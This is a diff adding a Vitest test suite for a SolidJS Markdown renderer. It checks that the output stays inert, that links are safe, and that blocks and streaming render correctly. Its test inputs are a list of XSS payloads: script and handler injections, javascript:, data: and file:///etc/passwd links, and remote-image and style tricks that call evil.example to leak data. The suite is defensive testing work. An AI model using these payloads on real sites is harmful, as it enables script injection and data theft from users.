@@ -1,0 +1,163 @@
+import { cleanup, render, waitFor } from "@solidjs/testing-library";
+import { createSignal } from "solid-js";
+import { afterEach, describe, expect, it, vi } from "vitest";
+import { Markdown } from "./Markdown.tsx";
+
+afterEach(cleanup);
+
+function show(text: string, streaming = false): HTMLElement {
+  return render(() => <Markdown text={text} streaming={streaming} />).container;
+}
+
+/** Everything in an element that could run, load or send something. */
+function dangers(root: HTMLElement): string[] {
+  const found: string[] = [];
+  for (const element of root.querySelectorAll("*")) {
+    const tag = element.tagName.toLowerCase();
+    if (/^(script|iframe|object|embed|img|video|audio|source|link|meta|base|form|style|math|template|noscript)$/.test(tag)) found.push(tag);
+    if (tag === "svg" && element.closest(".oc-copy") === null) found.push(tag);
+    for (const { name, value } of element.attributes) {
+      if (name.startsWith("on") || name === "src" || name === "srcset" || name === "srcdoc" || name === "style") found.push(`${tag} ${name}`);
+      if (name === "href" && !/^(https?:\/\/|mailto:)/.test(value)) found.push(`${tag} ${name}=${value}`);
+    }
+  }
+  return found;
+}
+
+const NASTY: [string, string][] = [
+  ["a script", "<script>alert(1)</script>"],
+  ["a script in a paragraph", "Hello <script>alert(1)</script> you"],
+  ["a script that is never closed", "text\n\n<script>alert(1)"],
+  ["an image with a handler", "<img src=x onerror=alert(1)>"],
+  ["an svg with a handler", "<svg/onload=alert(1)>"],
+  ["a frame", "<iframe src='https://evil.example' srcdoc='<script>1</script>'></iframe>"],
+  ["html around markdown", "<div onclick='alert(1)'>\n\n**bold** <b onmouseover=alert(1)>x</b>\n\n</div>"],
+  ["html in a table", "| a |\n|---|\n| <img src=x onerror=alert(1)> |"],
+  ["html in a list", "- <iframe src=javascript:alert(1)>\n- [x] <script>1</script>"],
+  ["html in a heading", "# <script>alert(1)</script>"],
+  ["html in a link's text", "[<img src=x onerror=alert(1)>](https://example.com)"],
+  ["a javascript link", "[x](javascript:alert(1))"],
+  ["a javascript link in capitals", "[x](JaVaScRiPt:alert(1))"],
+  ["a javascript link with a line break", "[x](java\nscript:alert(1))"],
+  ["a javascript link with a tab", "[x](java&#9;script:alert(1))"],
+  ["a javascript link in references", "[x](javascript&colon;alert(1)) [y](&#106;avascript:alert(1)) [z](&#x6A;avascript&#58;alert(1))"],
+  ["a javascript autolink", "<javascript:alert(1)>"],
+  ["a javascript link by reference", "[x][y]\n\n[y]: javascript:alert(1)"],
+  ["a vbscript link", "[x](vbscript:msgbox(1))"],
+  ["a data link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
+  ["a file link", "[x](file:///etc/passwd)"],
+  ["a blob link", "[x](blob:https://example.com/1)"],
+  ["a relative link", "[x](/logout) [y](//evil.example/x) [z](#top)"],
+  ["an address with a handler in it", '[x](https://example.com/"onmouseover="alert(1))'],
+  ["a title with a handler in it", "[x](https://example.com '\" onmouseover=\"alert(1)')"],
+  ["a data image", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)"],
+  ["a remote image", "![secret](https://evil.example/?q=secret)"],
+  ["a remote image by reference", "![x][y]\n\n[y]: https://evil.example/p.png"],
+  ["an image in a link", "[![x](https://evil.example/p.png)](https://example.com)"],
+  ["a language with markup in it", "```\"><script>alert(1)</script>\ncode\n```"],
+  ["html in code", "```html\n<script>alert(1)</script>\n```\n\n`<img src=x onerror=alert(1)>`"],
+  ["a comment that hides markup", "<!-- --><script>alert(1)</script><!-- -->"],
+  ["a broken table", "| a | b |\n|---|---|\n| <script>alert(1)</script"],
+  ["half a tag", "text <img src=x onerror="],
+  ["a style", "<style>body{background:url(https://evil.example)}</style>"],
+  ["a base", "<base href='https://evil.example/'>"],
+];
+
+describe("nothing in a text becomes active", () => {
+  it.each(NASTY)("%s", (_, text) => {
+    const root = show(text);
+    expect(dangers(root)).toEqual([]);
+    expect(root.textContent).not.toBe("");
+  });
+
+  it.each(NASTY)("%s, at every point of the stream", (_, text) => {
+    const [shown, setShown] = createSignal("");
+    const { container } = render(() => <Markdown text={shown()} streaming />);
+    for (let end = 1; end <= text.length; end += 1) {
+      setShown(text.slice(0, end));
+      expect(dangers(container), text.slice(0, end)).toEqual([]);
+    }
+  });
+
+  it("html is shown as it was written", () => {
+    expect(show("Hello <b>you</b>").textContent).toBe("Hello <b>you</b>");
+    expect(show("<script>alert(1)</script>").textContent).toContain("<script>alert(1)</script>");
+  });
+});
+
+describe("links", () => {
+  it("open elsewhere and tell nothing of this page", () => {
+    const link = show("[docs](https://example.com/a?b=c&d=e)").querySelector("a");
+    expect(link?.getAttribute("href")).toBe("https://example.com/a?b=c&d=e");
+    expect(link?.getAttribute("rel")).toBe("noopener noreferrer");
+    expect(link?.getAttribute("target")).toBe("_blank");
+  });
+
+  it.each([["https://example.com"], ["<https://example.com>"], ["mail <me@example.com>"], ["www.example.com"]])("are found in %s", (text) => {
+    expect(show(text).querySelectorAll("a")).toHaveLength(1);
+  });
+
+  it("stand for images, with their text", () => {
+    const root = show("![a *chart*](https://example.com/c.png)");
+    expect(root.querySelector("img")).toBeNull();
+    expect(root.querySelector("a")?.getAttribute("href")).toBe("https://example.com/c.png");
+    expect(root.querySelector("a")?.textContent).toContain("chart");
+  });
+});
+
+describe("blocks", () => {
+  it("become their elements", () => {
+    const root = show("## A\n\n1. one\n2. two\n\n- [x] done\n\n> q\n\n---\n\n| h | n |\n|:-:|--:|\n| *a* | 1 |\n\n~~gone~~ line  \nbreak &amp; &lt;b&gt; &copy; &#x1F600; &nosuch;");
+    expect(root.querySelector("h4")?.textContent).toBe("A");
+    expect(root.querySelectorAll("ol > li")).toHaveLength(2);
+    expect(root.querySelector<HTMLInputElement>("input[type=checkbox]")).toMatchObject({ checked: true, disabled: true });
+    expect(root.querySelector("blockquote p")?.textContent).toBe("q");
+    expect(root.querySelector("hr")).not.toBeNull();
+    expect(root.querySelector("td em")?.textContent).toBe("a");
+    expect([...root.querySelectorAll("th")].map((cell) => cell.dataset["align"])).toEqual(["center", "right"]);
+    expect(root.querySelector("del")?.textContent).toBe("gone");
+    expect(root.textContent).toContain("break & <b> © 😀 &nosuch;");
+  });
+
+  it("keep the number that an ordered list starts with", () => {
+    expect(show("5. five\n6. six").querySelector("ol")?.start).toBe(5);
+  });
+
+  it("of code have their language, their text and a copy button", async () => {
+    const write = vi.fn(() => Promise.resolve());
+    vi.stubGlobal("navigator", { ...navigator, clipboard: { writeText: write } });
+    const root = show("```rust\nfn main() {}\n```");
+    expect(root.querySelector("figcaption")?.textContent).toContain("rust");
+    root.querySelector<HTMLButtonElement>(".oc-copy")?.click();
+    await waitFor(() => expect(root.querySelector(".oc-copy-notice")?.textContent).toBe("Copied"));
+    expect(write).toHaveBeenCalledWith("fn main() {}");
+    vi.unstubAllGlobals();
+  });
+
+  it("of code are coloured once they are whole, with the same text", async () => {
+    const root = show("```rust\nfn main() {}\n```");
+    await waitFor(() => expect(root.querySelector('[data-kind="kwd"]')?.textContent).toBe("fn"));
+    expect(root.querySelector("code")?.textContent).toBe("fn main() {}");
+  });
+
+  it("nested without end stay within the page's stack", () => {
+    const root = show(`${"> ".repeat(200)}deep`);
+    expect(root.querySelectorAll("blockquote").length).toBeLessThan(30);
+    expect(root.textContent).toContain("deep");
+  });
+});
+
+describe("a stream", () => {
+  it("leaves the elements of finished blocks alone and changes the text of the last in place", () => {
+    const [text, setText] = createSignal("# One\n\nTwo\n\n- thr");
+    const { container } = render(() => <Markdown text={text()} streaming />);
+    const heading = container.querySelector("h3");
+    const item = container.querySelector("li");
+    const node = item?.firstChild;
+    setText("# One\n\nTwo\n\n- three");
+    expect(container.querySelector("h3")).toBe(heading);
+    expect(container.querySelector("li")).toBe(item);
+    expect(container.querySelector("li")?.firstChild).toBe(node);
+    expect(item?.textContent).toBe("three");
+  });
+});
